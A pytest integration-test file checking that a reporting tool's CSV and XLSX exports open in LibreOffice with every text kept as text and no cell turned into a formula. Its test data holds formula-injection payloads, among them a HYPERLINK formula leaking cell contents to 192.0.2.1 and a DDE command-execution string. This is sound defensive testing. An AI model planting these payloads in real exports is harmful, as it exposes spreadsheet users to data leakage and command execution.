"""Our tables in a real LibreOffice: numbers are numbers, texts are whole, and nothing is a formula."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from reporter.model import Report
from reporter.render import export, xlsx
from reporter.report import sheets
from tests.render.conftest import post
from tests.render.flat_sheets import needs_libreoffice, opened

pytestmark = [pytest.mark.integration, needs_libreoffice]

TEXTS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "+1 for this",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    ' =cmd|" /C calc"!A0',
    'She said "two, please", and left; 1,5',
    "One line\nand another\n\nand a last",
    "Café 😀 👩‍👩‍👧 日本語 مرحبا",
    "0123",
    "1e5",
    "2026-10-01",
    "TRUE",
    "50%",
    "#REF!",
    "<b>&amp;</b>",
    "_x0041_ as it stands",
)


@pytest.fixture
def written(report: Report) -> Report:
    """A report with a post for each text, ids in order."""
    posts = tuple(replace(post(text), id=f"p{place:02d}") for place, text in enumerate(TEXTS))
    return replace(report, measured=replace(report.measured, posts=posts))


def _plain(text: str) -> str:
    """As our tables promise to hold it: cleaned, perhaps behind the apostrophe that keeps it a text."""
    return text.replace("\t", " ").replace("\r", "\n").removeprefix("'")


def test_posts_csv_opens_whole(written: Report, tmp_path: Path) -> None:
    path = tmp_path / "posts.csv"
    path.write_text(export.posts_csv(written), encoding="utf-8", newline="")
    (rows,) = opened(path, tmp_path).values()
    header = [cell.text for cell in rows[0]]
    assert header == list(export.POST_COLUMNS)
    body = [dict(zip(header, row, strict=False)) for row in rows[1:]]
    assert len(body) == len(TEXTS)
    for text, line in zip(TEXTS, body, strict=True):
        assert line["text"].formula is None
        if text not in {
            "0123",
            "1e5",
            "2026-10-01",
            "TRUE",
            "50%",
        }:  # CSV has no kinds: these look like values
            assert line["text"].text.removeprefix("'") == _plain(text)
        assert (line["reactions"].kind, line["reactions"].number) == ("float", 120.0)
        assert (line["comments"].kind, line["comments"].number) == ("float", 0.0)
        assert line["watch_time_s"].number == 12.5
        assert line["engagement_rate"].number == 0.0345
        assert line["reach"].kind == "none"  # not known
    assert not [cell for row in rows for cell in row if cell.formula is not None]


def test_metrics_csv_opens_whole(written: Report, tmp_path: Path) -> None:
    path = tmp_path / "metrics.csv"
    path.write_text(export.metrics_csv(written), encoding="utf-8", newline="")
    (rows,) = opened(path, tmp_path).values()
    header = [cell.text for cell in rows[0]]
    lines = [dict(zip(header, row, strict=False)) for row in rows[1:]]
    by_name = {line["metric"].text: line for line in lines}
    assert by_name["engagements"]["value"].number == 1234.0
    assert by_name["er_reach"]["value"].number == pytest.approx(0.30000000000000004, abs=1e-15)
    assert by_name["reach"]["value"].kind == "none"
    assert by_name["reach"]["reason"].text == "retired"
    assert not [cell for row in rows for cell in row if cell.formula is not None]


def test_the_workbook_opens_whole(written: Report, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    path.write_bytes(xlsx.render(sheets(written), title="T", tool="reporter", made=written.period.end))
    book = opened(path, tmp_path)
    posts = book["Posts"]
    header = [cell.text for cell in posts[1]]
    lines = [dict(zip(header, row, strict=False)) for row in posts[2:]]
    assert len(lines) == len(TEXTS)
    for text, line in zip(TEXTS, lines, strict=True):
        assert (line["Text"].kind, line["Text"].text) == ("string", _plain(text))
        assert line["Published (Europe/Amsterdam time)"].kind == "date"
        assert (line["Engagements"].kind, line["Engagements"].number) == ("float", 120.0)
        assert (line["Rate"].kind, line["Rate"].number) == ("percentage", 0.0345)
    found = [row for row in book["Scorecard"][2:] if row[0].text == "engagements"]
    assert found[0][2].number == 1234.0
    absent = next(row for row in book["Instagram"][2:] if row[0].text == "Reach")
    assert (absent[2].kind, absent[4].text) == ("none", "Withdrawn by the platform: withdrawn in June.")
    assert not [c for rows in book.values() for row in rows for c in row if c.formula is not None]


def test_a_hostile_report_has_no_formula_anywhere(hostile: Callable[[str], Report], tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    made = hostile("=1+1")
    path.write_bytes(xlsx.render(sheets(made), title="=1+1", tool="=1+1", made=made.period.end))
    cells = [c for rows in opened(path, tmp_path).values() for row in rows for c in row]
    assert any(cell.text == "=1+1" for cell in cells)
    assert not [cell for cell in cells if cell.formula is not None]
